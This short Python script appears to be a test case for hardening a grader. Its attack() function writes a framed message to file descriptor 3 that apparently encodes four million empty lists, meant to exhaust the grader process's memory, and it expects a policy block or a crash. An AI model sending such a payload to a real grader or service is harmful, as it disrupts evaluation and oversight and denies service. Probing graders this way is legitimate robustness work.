"""Answer with sixteen megabytes of empty lists, each an object for the grader process to make.

ends: policy, crash
"""

from kilroy import os


def attack():
    size = 4_000_000
    body = b"\xdd" + size.to_bytes(4, "big") + b"\x90" * size
    frame = len(body).to_bytes(4, "big") + body
    while frame:
        frame = frame[os.write(3, frame) :]
